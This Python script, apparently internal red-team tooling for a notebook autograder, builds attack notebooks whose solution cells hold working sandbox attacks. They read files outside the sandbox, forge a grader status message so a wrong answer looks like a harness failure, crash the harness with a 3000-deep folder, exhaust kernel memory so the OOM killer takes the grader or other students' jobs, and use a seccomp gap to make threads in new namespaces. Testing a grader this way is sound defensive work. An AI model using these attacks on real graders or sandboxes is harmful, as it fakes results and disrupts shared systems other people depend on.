# ruff: noqa: E501
"""Build this round's attack notebooks (k24c): `PYTHONPATH=. python tools/attack-round2/make.py`.

Each is the student workbook with code in solution cells (as tools/attack-round/make.py). Where an
exercise returns the right answer only if its attack WON, a score above 0 is the breach; the others are
measured from outside (see FINDINGS.md beside this file).
"""

from __future__ import annotations

from pathlib import Path

import nbformat

from bpteach.grading.batch import sources

SOURCE = sources()["backprop-exercises"]
STUDENT = SOURCE.parent / "student" / SOURCE.name
OUT = Path(__file__).resolve().parent

RIGHT = {
    "ex1-output-delta": "def output_delta(y, h, fprime_z):\n    if WON:\n        return -(y - h) * fprime_z\n    return np.zeros_like(y)\n",
    "ex2-hidden-delta": "def hidden_delta(W_l, delta_next, fprime_z):\n    return (W_l.T @ delta_next) * fprime_z\n",
}
WRONG_EX1 = "def output_delta(y, h, fprime_z):\n    return np.zeros_like(y)\n"

# Another site-packages (with a .pth file), other packages and other programs under /usr/lib: bound whole
# for its shared libraries; site_folders covers only <root>/*-packages and <root>/python3*/*-packages.
REACH_EX1 = """
import os, sys
SP = '/usr/lib/google-cloud-sdk/platform/bundledpythonunix/lib/python3.12/site-packages'
pth = open(SP + '/distutils-precedence.pth').read()
sys.path.append('/usr/lib/google-cloud-sdk/lib/third_party')
import six, argcomplete
git = os.access('/usr/lib/git-core/git', os.X_OK)
print('other site-packages:', len(os.listdir(SP)), 'entries; .pth read:', len(pth), 'bytes; imported', six.__file__, '; git executable:', git)
WON = bool(pth) and git
"""

# The exercise's own stream (fd 3) takes a status record: a wrong answer reported as the grader's failure.
FORGED_EX1 = """
import json, os, struct

def output_delta(y, h, fprime_z):
    text = json.dumps({"kind": "status", "status": "error",
                       "message": "the grader's harness failed: OSError: [Errno 5] Input/output error (harness)"}).encode()
    os.write(3, struct.pack("<II", len(text), 0) + text)
    os._exit(0)
"""

# A folder 3000 deep in the work folder (/tmp in bwrap; the session's folder on the user route): the harness's wipe (os.walk, recursive) raises RecursionError after the exercise,
# before its reply is written; the harness dies and the grader says the sandbox ended. Wrong answer underneath.
DEEP_EX1 = """
import os
fd = os.open(os.path.dirname(os.getcwd()), os.O_RDONLY)  # the work folder, which the harness wipes
for i in range(3000):
    os.mkdir('d', dir_fd=fd)
    nfd = os.open('d', os.O_RDONLY, dir_fd=fd)
    os.close(fd)
    fd = nfd
""" + WRONG_EX1

# Negative dentries: each failed lookup on the bound ext4 leaves one in the host's dcache, charged to the
# sandbox's memory cgroup while it lives, reparented to the grader's cgroup when it is removed, kept after.
DENTRIES = """
import os, time
n, end = 0, time.monotonic() + 17
while time.monotonic() < end:
    for i in range(1000):
        try:
            os.stat(f'/usr/lib/x86_64-linux-gnu/k24c-{{n}}-{{i}}-{tag}' + 'a' * 40)
        except OSError:
            pass
    n += 1
print('failed lookups:', n * 1000)
"""

# Socket buffers: charged to the sandbox's memory cgroup (kmem), not to any process's RSS, so the OOM killer
# of a parent cgroup (or of the host) that runs out picks another task: the grader or a classmate's exercise.
SOCKETS_EX1 = """
import os, socket, time
held, pairs, chunk = 0, [], b'x' * 65536
for k in range(4):  # tmpfs pages (RLIMIT_FSIZE: 64 MiB a file): charged, in no process's RSS
    with open(f'/tmp/fill{k}', 'wb') as f:
        for _ in range(60):
            f.write(bytes(1 << 20))
carrier = socket.socketpair()  # full pairs go in flight on it (SCM_RIGHTS) and are closed here: fds freed
while held < (2300 << 20):
    try:
        a, b = socket.socketpair()
    except OSError:
        break
    for s in (a, b):
        s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
        s.setblocking(False)
        try:
            while True:
                held += s.send(chunk)
        except OSError:
            pass
    try:
        socket.send_fds(carrier[0], [b'x'], [a.fileno(), b.fileno()])
        a.close(); b.close()
    except OSError:
        pairs.append((a, b))
print('socket buffers held (MiB):', held >> 20, 'kept open', len(pairs))
time.sleep(10)
""" + WRONG_EX1


# The seccomp filter allows clone() whenever CLONE_THREAD is set, whatever else is: a thread may be made in a
# new network, UTS, mount or cgroup namespace (the exercise holds every capability of its own user namespace).
NAMESPACES_EX1 = """
import ctypes, os, time
libc = ctypes.CDLL(None, use_errno=True)
THREAD = 0x100 | 0x400 | 0x800 | 0x10000  # CLONE_VM | CLONE_FILES | CLONE_SIGHAND | CLONE_THREAD
NS = {"net": 0x40000000, "uts": 0x04000000, "mnt": 0x00020000, "cgroup": 0x02000000}
pause = ctypes.cast(libc.pause, ctypes.c_void_p).value
stacks, new = [], {}
for name, flag in NS.items():
    before = {t: os.readlink(f"/proc/self/task/{t}/ns/{name}") for t in os.listdir("/proc/self/task")}
    stacks.append(ctypes.create_string_buffer(1 << 16))
    tid = libc.clone(ctypes.c_void_p(pause), ctypes.c_void_p(ctypes.addressof(stacks[-1]) + (1 << 16) - 64), THREAD | flag, None)
    time.sleep(0.05)
    now = {os.readlink(f"/proc/self/task/{t}/ns/{name}") for t in os.listdir("/proc/self/task")}
    new[name] = tid > 0 and len(now - set(before.values())) == 1
print("a thread in a new namespace:", new)
WON = all(new.values())
"""


def build(name: str, bodies: dict[str, str], source=STUDENT) -> Path:
    nb = nbformat.read(source, as_version=4)
    for cell in nb.cells:
        gid = cell.metadata.get("nbgrader", {}).get("grade_id")
        if cell.metadata.get("nbgrader", {}).get("solution") and gid in bodies:
            cell.source = bodies[gid]
    path = OUT / f"{name}.ipynb"
    nbformat.write(nb, path)
    return path


ATTACKS = {
    "reaches-other-packages-and-programs": {"ex1-output-delta": REACH_EX1 + RIGHT["ex1-output-delta"]},
    "forged-status-looks-like-a-grader-failure": {"ex1-output-delta": FORGED_EX1, "ex2-hidden-delta": RIGHT["ex2-hidden-delta"]},
    "deep-folder-kills-the-harness": {"ex1-output-delta": DEEP_EX1, "ex2-hidden-delta": RIGHT["ex2-hidden-delta"]},
    "negative-dentries-outlive-the-sandbox": {"ex1-output-delta": DENTRIES.format(tag="e1") + WRONG_EX1,
                                              "ex2-hidden-delta": DENTRIES.format(tag="e2") + RIGHT["ex2-hidden-delta"]},
    "socket-buffers-fill-the-parent": {"ex1-output-delta": SOCKETS_EX1},
    "threads-in-new-namespaces": {"ex1-output-delta": NAMESPACES_EX1 + RIGHT["ex1-output-delta"]},
}

if __name__ == "__main__":
    for name, bodies in ATTACKS.items():
        print(build(name, bodies))
